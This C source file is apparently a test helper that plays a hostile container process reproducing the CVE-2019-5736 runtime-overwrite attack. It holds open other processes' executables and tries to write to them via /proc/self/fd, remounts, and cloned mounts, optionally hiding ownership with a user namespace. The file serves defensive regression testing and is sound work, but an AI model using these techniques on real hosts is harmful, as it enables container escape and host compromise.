/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * attack_overwriter [-u] PROGRAM...: a hostile process in a container that tries to overwrite the
 * runtime's binary on the host (CVE-2019-5736). It holds open the executable of every process that
 * isn't one of PROGRAMs, and then tries to write to it: directly, through /proc/self/fd, after a
 * remount, through a new mount. Prints "caught" for an executable that it holds, and "WROTE" after
 * it wrote a byte. Exits on SIGTERM.
 *
 * -u: a child does this, while the first process enters a user namespace below the container's, in
 * which only the container's user 1 has an ID. That process's maps then don't show the owner of the
 * binary.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif

static volatile sig_atomic_t done;
static int caught[4096], pids[4096];
static size_t n;

static void stop(int sig)
{
	(void)sig;
	done = 1;
}

static void write_map(int pid, const char *name)
{
	char path[64];
	int fd;

	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write(fd, "0 1 1", 5) < 0)
		perror(path);
	close(fd);
}

/* Returns in the child, after its parent has entered the user namespace. */
static void hide_the_owner(void)
{
	int ready[2], parent = getpid(), child;
	char byte;

	if (pipe2(ready, O_CLOEXEC) < 0 || (child = fork()) < 0)
		exit(1);
	if (child == 0) {
		if (read(ready[0], &byte, 1) != 1)
			exit(1);
		write_map(parent, "gid_map");
		write_map(parent, "uid_map");
		return;
	}
	signal(SIGTERM, stop);
	if (unshare(CLONE_NEWUSER) < 0 || write(ready[1], "r", 1) != 1)
		perror("unshare");
	while (!done)
		pause();
	kill(child, SIGTERM);
	while (waitpid(child, NULL, 0) < 0 && errno == EINTR)
		;
	exit(0);
}

static void hold(int pid, char **programs)
{
	char path[64], target[4096];
	ssize_t len;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	len = readlink(path, target, sizeof target - 1);
	if (len < 0)
		return;
	target[len] = '\0';
	for (; *programs != NULL; programs++)
		if (strcmp(target, *programs) == 0)
			return;
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	printf("caught %s\n", target);
	pids[n] = pid;
	caught[n++] = fd;
}

static int held(int pid)
{
	for (size_t i = 0; i < n; i++)
		if (pids[i] == pid)
			return 1;
	return 0;
}

static void write_to(const char *path, const char *how)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0)
		return;
	if (write(fd, "#!/bin/false\n", 13) > 0)
		printf("WROTE %s\n", how);
	close(fd);
}

static void attack(int fd)
{
	char path[64];
	int tree;

	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	write_to(path, "through /proc/self/fd");
	fchmod(fd, 0777);
	write_to(path, "after chmod");
	if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
		write_to(path, "after a remount");
	tree = (int)syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE | O_CLOEXEC);
	if (tree >= 0) {
		struct mount_attr attr = { .attr_clr = 1 /* MOUNT_ATTR_RDONLY */ };

		syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attr, sizeof attr);
		snprintf(path, sizeof path, "/proc/self/fd/%d", tree);
		write_to(path, "through a clone of its mount");
		close(tree);
	}
}

int main(int argc, char **argv)
{
	int self;

	if (argc < 2)
		return 2;
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (strcmp(argv[1], "-u") == 0) {
		hide_the_owner();
		argv++;
	}
	self = getpid();
	signal(SIGTERM, stop);
	printf("waiting\n");
	while (!done) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc != NULL && (entry = readdir(proc)) != NULL)
			if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != self && n < 4000 &&
				!held(atoi(entry->d_name)))
				hold(atoi(entry->d_name), argv + 1);
		if (proc != NULL)
			closedir(proc);
	}
	for (size_t i = 0; i < n; i++)
		attack(caught[i]);
	printf("tried %zu\n", n);
	return 0;
}
